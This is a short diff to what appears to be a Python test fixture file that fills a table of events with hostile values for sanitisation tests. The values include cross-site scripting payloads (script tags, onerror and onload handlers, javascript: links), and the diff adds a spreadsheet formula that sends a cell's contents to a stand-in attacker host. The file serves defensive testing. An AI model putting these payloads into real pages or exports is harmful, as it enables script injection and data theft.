@@ -28,6 +28,7 @@ HOSTILE_TITLE = '<img src=x onerror="window.__xss=1"> %{y} [click](javascript:al
 HOSTILE_DESCRIPTION = "<script>window.__xss=1</script><style>body{display:none}</style>"
 HOSTILE_SOURCE = "javascript:alert(1)"
 HOSTILE_ACTOR = "<b>Bold</b> actor"
+FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"x")'
 
 
 def small_events(csv: str = SMALL_CSV) -> pd.DataFrame:
@@ -50,6 +51,7 @@ def hostile_events() -> pd.DataFrame:
     events.loc[events["id"] == "summit", "source"] = HOSTILE_SOURCE
     events.loc[events["id"] == "summit", "actors"] = HOSTILE_ACTOR + ";Vladimir Putin"
     events.loc[events["id"] == "rally", "location"] = "<svg onload=alert(1)>Moscow"
+    events.loc[events["id"] == "tokyo", "title"] = FORMULA_TITLE
     return events
 
 
